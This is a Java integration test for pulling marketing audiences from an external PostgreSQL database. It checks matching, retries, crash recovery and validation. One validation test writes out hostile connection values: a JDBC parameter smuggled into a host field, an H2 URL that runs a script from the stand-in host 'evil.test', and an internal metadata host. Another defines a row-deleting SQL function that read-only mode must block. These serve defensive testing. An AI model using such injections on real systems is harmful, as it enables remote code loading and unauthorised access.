package dev.rekindle.segment.source.pull;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.rekindle.member.Members;
import dev.rekindle.member.StoreContext;
import dev.rekindle.member.intake.FieldRules;
import dev.rekindle.schedule.Firing;
import dev.rekindle.segment.SegmentDraft;
import dev.rekindle.segment.Usage;
import dev.rekindle.segment.rule.InvalidRule;
import dev.rekindle.segment.rule.Rules;
import dev.rekindle.segment.source.Audience;
import dev.rekindle.segment.source.AudienceColumns;
import dev.rekindle.segment.source.AudienceField;
import dev.rekindle.segment.source.AudiencePull;
import dev.rekindle.segment.source.AudienceSettings;
import dev.rekindle.segment.source.AudienceSource;
import dev.rekindle.segment.source.PullState;
import dev.rekindle.segment.source.SourceFailure;
import dev.rekindle.segment.source.SourceProblem;
import dev.rekindle.segment.source.SourceReader;
import dev.rekindle.segment.source.SourceRequest;
import dev.rekindle.segment.source.jdbc.JdbcAudienceFixture;
import dev.rekindle.setting.Live;
import dev.rekindle.testing.TestDatabase;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import javax.sql.DataSource;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.junit.jupiter.SpringJUnitConfig;

/** Audiences pulled from a second PostgreSQL database, read only, in pages of two rows. */
@SpringJUnitConfig(StoreContext.class)
class AudiencePullsIT {

    private static final TestDatabase.Location CRM = TestDatabase.freshLocation();
    private static final JdbcClient crm = JdbcClient.create(TestDatabase.pool(CRM, 2));

    private static final Live<AudienceSettings> SETTINGS =
            AudienceWorld.settings(Map.of("page-size", "2", "allow-private", "localhost", "attempts", "3"));

    @Autowired
    DataSource database;

    @Autowired
    Members members;

    @Autowired
    FieldRules rules;

    private AudienceWorld world;
    private final Interrupted interrupted = new Interrupted(JdbcAudienceFixture.source(SETTINGS));

    @BeforeEach
    void start() {
        crm.sql("drop table if exists person").update();
        crm.sql("""
                create table person (id int primary key, customer text, mail text, phone text, city text, active boolean,
                                     changed_at timestamptz)
                """).update();
        world = new AudienceWorld(database, members, rules, SETTINGS, List.of(interrupted));
    }

    @AfterEach
    void clear() {
        world.clear();
    }

    /** The connector of databases, which a test may interrupt before a page as a killed node is. */
    private static final class Interrupted implements AudienceSource {

        private final AudienceSource source;
        private int pages = Integer.MAX_VALUE;
        private @Nullable RuntimeException instead;

        Interrupted(AudienceSource source) {
            this.source = source;
        }

        @Override
        public String connector() {
            return source.connector();
        }

        @Override
        public List<dev.rekindle.segment.source.SourceField> fields() {
            return source.fields();
        }

        @Override
        public java.util.Optional<SourceProblem> problem(
                dev.rekindle.segment.source.SourceSettings settings, AudienceColumns columns, boolean incremental) {
            return source.problem(settings, columns, incremental);
        }

        @Override
        public String destination(dev.rekindle.segment.source.SourceSettings settings) {
            return source.destination(settings);
        }

        @Override
        public SourceReader open(SourceRequest request) {
            SourceReader reader = source.open(request);
            return new SourceReader() {
                @Override
                public dev.rekindle.segment.source.SourcePage next() {
                    if (pages-- == 0) {
                        if (instead != null) {
                            throw instead;
                        }
                        throw new Killed();
                    }
                    return reader.next();
                }

                @Override
                public void close() {
                    reader.close();
                }
            };
        }
    }

    /** Nobody catches it, as nobody does after kill -9. */
    private static final class Killed extends Error {
        private static final long serialVersionUID = 1L;
    }

    private void person(int id, @Nullable String customer, @Nullable String mail, @Nullable String phone) {
        crm.sql("insert into person values (:id, :customer, :mail, :phone, 'Bath', true, :at)")
                .param("id", id)
                .param("customer", customer)
                .param("mail", mail)
                .param("phone", phone)
                .param("at", Instant.parse("2026-11-01T00:00:00Z").atOffset(java.time.ZoneOffset.UTC))
                .update();
    }

    private static AudienceColumns columns(AudienceField... more) {
        Map<AudienceField, String> columns = new HashMap<>(Map.of(
                AudienceField.EXTERNAL_ID, "customer", AudienceField.EMAIL, "mail", AudienceField.PHONE, "phone"));
        for (AudienceField field : more) {
            columns.put(field, "active");
        }
        return new AudienceColumns(columns, Map.of("city", "city"));
    }

    private static Map<String, String> statement(String sql) {
        return JdbcAudienceFixture.settings("POSTGRESQL", CRM.url(), CRM.username(), sql, "id");
    }

    private Audience defined() {
        return AudienceWorld.audience("vip", "jdbc", statement("select * from person -- all"), columns());
    }

    private void save(Audience audience) {
        assertThat(world.audiences.problem(audience, secrets())).isEmpty();
        world.audiences.save(audience, secrets());
    }

    private static Map<String, String> secrets() {
        return Map.of("password", CRM.password());
    }

    private static Audience with(Audience audience, boolean incremental, boolean creates, int hold) {
        return new Audience(
                audience.key(),
                audience.nameEn(),
                audience.nameZh(),
                audience.connector(),
                audience.settings(),
                audience.columns(),
                incremental,
                creates,
                hold,
                audience.cron());
    }

    private void fivePeople() {
        for (int i = 1; i <= 5; i++) {
            world.member("c" + i, null, null);
            person(i, "c" + i, null, null);
        }
    }

    @Test
    void rowsAreMatchedByIdThenAddressAndTheRestIsRefusedWithReasons() {
        world.member("c1", "other@shop.example", null);
        world.member("m2", "Bo@Bücher.example", null);
        world.member("m3", null, "+447700900123");
        world.member("m4", "house@shop.example", null);
        world.member("m5", "house@shop.example", null);
        person(1, "c1", "bo@bücher.example", null);
        person(2, "unknown-2", "BO@xn--bcher-kva.example", null);
        person(3, null, null, "07700 900123");
        person(4, null, "house@shop.example", null);
        person(5, "nobody", null, null);
        person(6, null, "no address", null);
        person(7, null, null, null);
        save(defined());

        AudiencePull pull = world.pull("vip");

        assertThat(pull.state()).isEqualTo(PullState.DONE);
        assertThat(pull.rows()).isEqualTo(7);
        assertThat(world.membersOf("vip")).containsExactly("c1", "m2", "m3");
        assertThat(world.segments().changesAfter("vip", 0, 10)).hasSize(3).allMatch(change -> change.entered());
        assertThat(pull.refused()).isEqualTo(4);
        assertThat(world.audiences.refused(pull.id(), 0, 10))
                .extracting(row -> row.line()
                        + row.problems().stream()
                                .map(problem -> " " + problem.column() + ":" + problem.code())
                                .collect(Collectors.joining()))
                .containsExactly(
                        "4 null:several-members", "5 customer:no-member", "6 mail:email", "7 null:no-identity");
        var csv = new ByteArrayOutputStream();
        world.audiences.writeRefused(pull.id(), csv, List.of("Row", "Reason"), problem -> problem.code());
        assertThat(csv.toString(StandardCharsets.UTF_8))
                .startsWith("\uFEFFid,customer,mail,phone,city,active,changed_at,Row,Reason\r\n4,,house@shop.example,")
                .contains("5,nobody,,,Bath,t,");
    }

    @Test
    void refusedRowsExpireAndTheirNumberStays() {
        person(1, "nobody", null, null);
        save(defined());
        AudiencePull pull = world.pull("vip");
        var expiring = new ExpiringPulls(world.jdbc);
        assertThat(expiring.expire(world.segments.now, 100)).isZero();
        assertThat(expiring.expire(world.segments.now.plusSeconds(1), 100)).isEqualTo(1);
        assertThat(world.audiences.refused(pull.id(), 0, 10)).isEmpty();
        assertThat(world.audiences.pull(pull.id()).orElseThrow().refused()).isEqualTo(1);
    }

    @Test
    void aLaterPullLetsMembersEnterAndLeaveAndADryRunOnlySaysSo() {
        fivePeople();
        save(with(defined(), false, false, 100));
        world.pull("vip");
        crm.sql("delete from person where id < 3").update();
        world.member("c6", null, null);
        person(6, "c6", null, null);

        AudiencePull dry = world.pull("vip", true, false);

        assertThat(dry.state()).isEqualTo(PullState.PREVIEWED);
        assertThat(dry)
                .extracting(AudiencePull::entering, AudiencePull::leaving, AudiencePull::sizeAfter)
                .containsExactly(1L, 2L, 4L);
        assertThat(dry.sample().entering()).hasSize(1);
        assertThat(dry.sample().leaving()).hasSize(2);
        assertThat(world.membersOf("vip")).containsExactly("c1", "c2", "c3", "c4", "c5");
        assertThat(world.pull("vip").state()).isEqualTo(PullState.DONE);
        assertThat(world.membersOf("vip")).containsExactly("c3", "c4", "c5", "c6");
        assertThat(world.segments().changesAfter("vip", 0, 20)).hasSize(8);
        assertThat(world.jdbc
                        .sql("select count(*) from audience_staged")
                        .query(Long.class)
                        .single())
                .isZero();
        assertThat(world.segments().evaluate("vip"))
                .as("the rule says the same")
                .extracting("entered", "left")
                .containsExactly(0L, 0L);
    }

    @Test
    void aPullThatShrinksTheSegmentTooMuchIsHeldUntilSomebodyAgrees() {
        fivePeople();
        save(defined());
        world.pull("vip");
        crm.sql("delete from person where id <> 1").update();

        AudiencePull held = world.pull("vip");
        assertThat(held.state()).isEqualTo(PullState.HELD);
        assertThat(world.membersOf("vip")).hasSize(5);
        AudiencePull newer = world.pull("vip");
        assertThat(world.audiences.pull(held.id()).orElseThrow().failure()).isEqualTo("newer");
        assertThat(world.audiences.decide(held.id(), true, "ada"))
                .as("it is replaced")
                .isFalse();
        assertThat(world.audiences.decide(newer.id(), true, "ada")).isTrue();
        world.work();

        AudiencePull done = world.audiences.pull(newer.id()).orElseThrow();
        assertThat(done.state()).isEqualTo(PullState.DONE);
        assertThat(done.agreedBy()).isEqualTo("ada");
        assertThat(world.membersOf("vip")).containsExactly("c1");
        crm.sql("delete from person").update();
        AudiencePull empty = world.pull("vip");
        assertThat(world.audiences.decide(empty.id(), false, "ada")).isTrue();
        assertThat(world.audiences.pull(empty.id()).orElseThrow().state()).isEqualTo(PullState.CANCELLED);
        assertThat(world.membersOf("vip")).containsExactly("c1");
    }

    @Test
    void aPullThatIsKilledContinuesBehindItsLastPageAndIsNeverHalfApplied() {
        fivePeople();
        save(defined());
        interrupted.pages = 2;
        long pull = world.audiences.call("vip", false, false, "ada");
        assertThatExceptionOfType(Killed.class).isThrownBy(world::workOnce);
        assertThat(world.membersOf("vip")).isEmpty();
        assertThat(world.workOnce()).as("another node leaves the claim alone").isZero();
        crm.sql("update person set customer = 'gone' where id = 1").update(); // it was read before
        interrupted.pages = Integer.MAX_VALUE;
        world.expireClaims();

        world.work();

        assertThat(world.audiences.pull(pull).orElseThrow())
                .extracting(AudiencePull::state, AudiencePull::rows, AudiencePull::refused)
                .containsExactly(PullState.DONE, 5L, 0L);
        assertThat(world.membersOf("vip")).containsExactly("c1", "c2", "c3", "c4", "c5");
    }

    @Test
    void aClaimThatIsNotTheLatestWritesNothing() {
        fivePeople();
        save(defined());
        world.audiences.call("vip", false, false, "ada");
        Claim first = world.pulls.claim(Duration.ofMinutes(1)).orElseThrow();
        world.expireClaims();
        Claim second = world.pulls.claim(Duration.ofMinutes(1)).orElseThrow();
        assertThat(second.attempt()).isEqualTo(2);
        assertThatThrownBy(() -> world.pulls.fail(first, "error", "")).isInstanceOf(PullSuperseded.class);
        assertThat(world.audiences.cancel(second.id())).isTrue();
        assertThatThrownBy(() -> world.pulls.fail(second, "error", "")).isInstanceOf(PullSuperseded.class);
    }

    @Test
    void anIncrementalPullReadsWhatChangedSinceTheWatermark() {
        fivePeople();
        Map<String, String> settings = new HashMap<>(statement("select * from person"));
        settings.put("watermark", "changed_at");
        Audience audience = AudienceWorld.audience("vip", "jdbc", settings, columns(AudienceField.INSIDE));
        save(with(audience, true, false, 100));
        world.pull("vip");
        crm.sql("update person set changed_at = '2026-11-02T00:00:00Z', active = false where id = 2")
                .update();
        crm.sql("delete from person where id = 3").update();
        world.member("c6", null, null);
        person(6, "c6", null, null);
        crm.sql("update person set changed_at = '2026-11-03T00:00:00Z' where id = 6")
                .update();
        crm.sql("update person set changed_at = '2026-10-01T00:00:00Z' where id in (1, 4, 5)")
                .update();

        AudiencePull second = world.pull("vip");
        assertThat(second)
                .extracting(AudiencePull::rows, AudiencePull::entering, AudiencePull::leaving)
                .containsExactly(2L, 1L, 1L);
        assertThat(world.membersOf("vip")).containsExactly("c1", "c3", "c4", "c5", "c6");
        AudiencePull third = world.pull("vip");
        assertThat(third.rows()).as("the row at the watermark is read again").isEqualTo(1);
        AudiencePull whole = world.pull("vip", false, true);
        assertThat(whole.rows()).isEqualTo(5);
        assertThat(world.membersOf("vip"))
                .as("a deleted row is only noticed by a whole pull")
                .containsExactly("c1", "c4", "c5", "c6");
    }

    @Test
    void unknownPeopleBecomeMembersWhereTheAudienceSaysSo() {
        world.member("c1", null, null);
        person(1, "c1", null, null);
        person(2, "new-2", "Two@shop.example", "07700 900124");
        person(3, null, "Three@Shop.example", null);
        person(4, "bad-4", "no address", null);
        save(with(defined(), false, true, 30));

        AudiencePull dry = world.pull("vip", true, false);
        assertThat(dry.sample().creating()).containsExactlyInAnyOrder("three@shop.example", "new-2");
        assertThat(members.byExternalId("new-2")).isEmpty();

        AudiencePull pull = world.pull("vip");
        assertThat(pull.created()).isEqualTo(2);
        assertThat(world.membersOf("vip")).containsExactly("c1", "new-2", "three@shop.example");
        var two = members.byExternalId("new-2").orElseThrow();
        assertThat(two.phone()).isEqualTo("+447700900124");
        assertThat(two.attributes()).containsEntry("city", "Bath");
        assertThat(world.pull("vip"))
                .as("they are known now")
                .extracting(AudiencePull::entering)
                .isEqualTo(0L);
        assertThat(pull.refused()).isEqualTo(1);
    }

    @Test
    void aFailureThatMayPassIsTriedAgainLaterAndOneThatLastsIsNot() {
        fivePeople();
        save(defined());
        interrupted.pages = 1;
        interrupted.instead = SourceFailure.notBefore("busy", "HTTP 429", Duration.ofMinutes(10));
        AudiencePull waiting = world.pull("vip");
        assertThat(waiting.state()).isEqualTo(PullState.READING);
        assertThat(waiting.dueAt()).isEqualTo(world.segments.now.plus(Duration.ofMinutes(10)));
        assertThat(waiting)
                .extracting(AudiencePull::failures, AudiencePull::failure)
                .containsExactly(1, "busy");
        interrupted.pages = Integer.MAX_VALUE;
        world.later(Duration.ofMinutes(10));
        world.work();
        assertThat(world.audiences.pull(waiting.id()).orElseThrow().state()).isEqualTo(PullState.DONE);

        crm.sql("alter table person rename customer to client").update();
        AudiencePull failed = world.pull("vip");
        assertThat(failed)
                .extracting(AudiencePull::state, AudiencePull::failure)
                .containsExactly(PullState.FAILED, "no-column");
        assertThat(failed.detail()).startsWith("customer – id, client");
        assertThat(world.membersOf("vip")).hasSize(5);
    }

    @Test
    void aStatementOnlyReadsAndItsKeyIsUniqueAndNeverNull() {
        fivePeople();
        save(AudienceWorld.audience(
                "vip",
                "jdbc",
                statement(
                        "select id, customer as c, customer, mail, phone, city from person union all select 3, 'c', 'c', null, null, null"),
                columns()));
        assertThat(world.pull("vip"))
                .extracting(AudiencePull::failure, AudiencePull::detail)
                .containsExactly("key-twice", "3");
        save(AudienceWorld.audience(
                "vip",
                "jdbc",
                statement("select nullif(id, 4) as id, customer, mail, phone, city from person"),
                columns()));
        assertThat(world.pull("vip"))
                .extracting(AudiencePull::failure, AudiencePull::detail)
                .containsExactly("null-key", "1");
        crm.sql("create or replace function harm() returns int language sql as 'delete from person returning 1'")
                .update();
        save(AudienceWorld.audience(
                "vip", "jdbc", statement("select id, customer, mail, phone, city, harm() from person"), columns()));
        AudiencePull harm = world.pull("vip");
        assertThat(harm.failure()).isEqualTo("statement");
        assertThat(harm.detail()).contains("read-only transaction");
        assertThat(crm.sql("select count(*) from person").query(Long.class).single())
                .isEqualTo(5);
        save(AudienceWorld.audience(
                "vip", "jdbc", statement("select id, customer, mail, phone, city from nothing"), columns()));
        assertThat(world.pull("vip").detail()).contains("\"nothing\" does not exist");
    }

    @Test
    void aRuleIsRunInTheDatabaseAndOnlyIdsComeOver() {
        fivePeople();
        crm.sql("update person set city = 'Bristol', mail = null where id in (2, 3)")
                .update();
        crm.sql("update person set city = null where id = 4").update();
        Map<String, String> settings = new HashMap<>(statement("select * from person"));
        settings.put("ruleColumns", "town = city\nsince = changed_at\nactive");
        settings.put("rule", """
                {"all": [{"attribute": "active", "is": true},
                         {"attribute": "since", "before": "2026-11-21"},
                         {"attribute": "since", "inDays": {"atLeast": -30, "atMost": 0}},
                         {"not": {"attribute": "town", "startsWith": "BRIS"}}]}
                """);
        var ids = new AudienceColumns(Map.of(AudienceField.EXTERNAL_ID, "customer"), Map.of());
        save(AudienceWorld.audience("vip", "jdbc", settings, ids));
        assertThat(world.pull("vip").rows()).isEqualTo(3);
        assertThat(world.membersOf("vip")).as("an unknown town is not Bristol").containsExactly("c1", "c4", "c5");
        assertThat(world.audiences
                        .look(AudienceWorld.audience("vip", "jdbc", settings, ids), secrets())
                        .columns())
                .containsExactly("id", "customer");

        settings.put("rule", "{\"tag\": \"vip\"}");
        assertThat(problem(settings)).isEqualTo("rule rule-condition");
        settings.put("rule", "{\"attribute\": \"tier\", \"oneOf\": [\"gold\"]}");
        assertThat(problem(settings)).isEqualTo("rule rule-column");
        settings.put("rule", "{\"attribut\": 1}");
        assertThat(problem(settings)).isEqualTo("rule rule");
    }

    @Test
    void whatIsTypedWrongIsToldAtItsField() {
        save(defined());
        assertThat(problem(statement("delete from person"))).isEqualTo("statement not-a-select");
        assertThat(problem(statement("select 1; select 2"))).isEqualTo("statement semicolon");
        Map<String, String> elsewhere = new HashMap<>(statement("select 1 as id"));
        elsewhere.put("host", "metadata.internal");
        assertThat(world.audiences
                        .problem(AudienceWorld.audience("vip", "jdbc", elsewhere, columns()), Map.of())
                        .orElseThrow())
                .as("a stored password goes where it was typed for")
                .isEqualTo(SourceProblem.of("password", "secret-again"));
        assertThat(world.audiences
                        .problem(AudienceWorld.audience("vip", "jdbc", elsewhere, columns()), secrets())
                        .orElseThrow()
                        .code())
                .isEqualTo("host-not-allowed");
        elsewhere.put("host", "localhost/x?socketFactory=evil#");
        assertThat(world.audiences
                        .problem(AudienceWorld.audience("vip", "jdbc", elsewhere, columns()), secrets())
                        .orElseThrow()
                        .code())
                .isEqualTo("host");
        elsewhere.put("database", "OTHER");
        elsewhere.put("address", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.test/x.sql'");
        assertThat(world.audiences
                        .problem(AudienceWorld.audience("vip", "jdbc", elsewhere, columns()), secrets())
                        .orElseThrow())
                .isEqualTo(SourceProblem.of("address", "address"));
        assertThat(world.audiences
                        .problem(
                                AudienceWorld.audience(
                                        "vip",
                                        "jdbc",
                                        statement("select 1 as id"),
                                        new AudienceColumns(Map.of(AudienceField.TIER, "t"), Map.of())),
                                secrets())
                        .orElseThrow()
                        .code())
                .isEqualTo("no-identity");
    }

    private String problem(Map<String, String> settings) {
        return world.audiences
                .problem(AudienceWorld.audience("vip", "jdbc", settings, columns()), secrets())
                .map(problem -> problem.field() + " " + problem.code())
                .orElse("");
    }

    @Test
    void theSegmentBelongsToItsAudience() {
        save(defined());
        assertThatExceptionOfType(InvalidRule.class)
                .isThrownBy(() -> world.segments.save("vip", "{\"tag\": \"x\"}"))
                .matches(bad -> bad.problem() == InvalidRule.Problem.PULLED);
        assertThatExceptionOfType(InvalidRule.class)
                .isThrownBy(() -> world.segments.save("own", "{\"audience\": \"vip\"}"))
                .matches(bad -> bad.problem() == InvalidRule.Problem.PULLED);
        assertThatExceptionOfType(InvalidRule.class)
                .isThrownBy(() -> Rules.read("{\"not\": {\"audience\": \"vip\"}}"))
                .matches(bad -> bad.problem() == InvalidRule.Problem.PART_OF_AUDIENCE);
        world.segments.save("best", "{\"all\": [{\"inSegment\": \"vip\"}, {\"tag\": \"x\"}]}");
        assertThat(world.audiences.delete("vip")).extracting(Usage::key).containsExactly("best");
        world.segments.definitions.delete("best");
        assertThat(world.audiences.delete("vip")).isEmpty();
        assertThat(world.segments.definitions.find("vip")).isEmpty();
        assertThat(world.audit.toString()).doesNotContain(CRM.password());
        assertThat(SegmentDraft.KEY.matcher("vip").matches()).isTrue();
    }

    @Test
    void aScheduleCallsForPulls() {
        fivePeople();
        Audience audience = defined();
        save(new Audience(
                "vip", "Vip", "贵宾", "jdbc", audience.settings(), audience.columns(), false, false, 30, "0 0 6 * * ?"));
        assertThat(world.schedules.values())
                .extracting(dev.rekindle.schedule.Schedule::cron)
                .containsExactly("0 0 6 * * ?");
        world.schedule.run(new Firing(AudienceSchedule.NAME, "vip", world.segments.now));
        world.schedule.run(new Firing(AudienceSchedule.NAME, "vip", world.segments.now));
        world.work();
        assertThat(world.audiences.pulls("vip", 0, 10))
                .extracting(AudiencePull::calledBy, AudiencePull::state)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("schedule", PullState.DONE));
        assertThat(world.membersOf("vip")).hasSize(5);
    }
}
